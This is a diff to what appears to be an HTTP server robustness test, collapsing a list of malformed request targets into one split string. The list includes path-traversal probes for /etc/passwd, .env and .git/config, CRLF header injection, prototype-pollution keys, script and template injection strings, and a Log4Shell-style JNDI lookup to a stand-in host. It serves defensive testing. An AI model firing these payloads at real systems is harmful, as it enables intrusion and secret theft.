@@ -61,66 +61,23 @@ const requestLines = named(
 const targets = named(
   'target',
   [
-    '/%',
-    '/%0',
-    '/%zz',
-    '/%00',
-    '/a%00.html',
-    '/%0d%0aset-cookie:%20a=b',
-    '/%0a',
-    '/%1b%5b31m',
-    '/%7f',
-    '/%c2%85',
-    '/%c0%ae%c0%ae/etc/passwd',
-    '/%e0%80%af',
-    '/%ed%a0%80',
-    '/%f8%88%80%80%80',
-    '/%ff%fe',
-    '/..',
-    '/../../../../etc/passwd',
-    '/%2e%2e/%2e%2e/etc/passwd',
-    '/..%2f..%2fetc%2fpasswd',
-    '/..%5c..%5cwindows',
+    ...`
+      /% /%0 /%zz /%00 /a%00.html /%0d%0aset-cookie:%20a=b /%0a /%1b%5b31m /%7f /%c2%85 /%c0%ae%c0%ae/etc/passwd /%e0%80%af /%ed%a0%80
+      /%f8%88%80%80%80 /%ff%fe /.. /../../../../etc/passwd /%2e%2e/%2e%2e/etc/passwd /..%2f..%2fetc%2fpasswd /..%5c..%5cwindows
+      /.%2e/.%2e/package.json /assets/../../package.json /assets/%2e%2e/%2e%2e/package.json /media/..%2f..%2fdata%2fseitenwerk.db
+      /assets/.env /.git/config /.well-known/../.env /./././ /a//b /// /;/ /preise;jsessionid=1 /preise/..;/admin /%252e%252e/
+      /__proto__ /constructor /api/pages/__proto__ /api/blog/constructor /api/blog?search=%ff /?__proto__[a]=1&constructor=1
+      /?a[b][c][d][e]=1 /ä /<script> /"onload=" /{{7*7}} /$%7Bjndi:ldap://boese.example/a} /_payload/../../etc /_preview/a.b.c
+      /_preview/%00 /_newsletter/confirm?key[]=1 /_newsletter/unsubscribe?key=%00 /ws /metrics /_blocks?token[]=a
+    `
+      .trim()
+      .split(/\s+/),
     '/..\\..\\windows',
-    '/.%2e/.%2e/package.json',
-    '/assets/../../package.json',
-    '/assets/%2e%2e/%2e%2e/package.json',
-    '/media/..%2f..%2fdata%2fseitenwerk.db',
-    '/assets/.env',
-    '/.git/config',
-    '/.well-known/../.env',
-    '/./././',
-    '/a//b',
-    '///',
-    '/;/',
-    '/preise;jsessionid=1',
-    '/preise/..;/admin',
-    '/%252e%252e/',
-    '/__proto__',
-    '/constructor',
-    '/api/pages/__proto__',
-    '/api/blog/constructor',
-    '/api/blog?search=%ff',
-    '/?__proto__[a]=1&constructor=1',
-    '/?a[b][c][d][e]=1',
     `/?${'a=1&'.repeat(400)}`,
     `/?${'%'.repeat(1_000)}`,
     `/${'a/'.repeat(900)}`,
     `/${'%41'.repeat(600)}`,
-    '/ä',
     '/\u00ff',
-    '/<script>',
-    '/"onload="',
-    '/{{7*7}}',
-    '/$%7Bjndi:ldap://boese.example/a}',
-    '/_payload/../../etc',
-    '/_preview/a.b.c',
-    '/_preview/%00',
-    '/_newsletter/confirm?key[]=1',
-    '/_newsletter/unsubscribe?key=%00',
-    '/ws',
-    '/metrics',
-    '/_blocks?token[]=a',
   ].map((target) => request(`GET ${target} HTTP/1.1`)),
 );
 
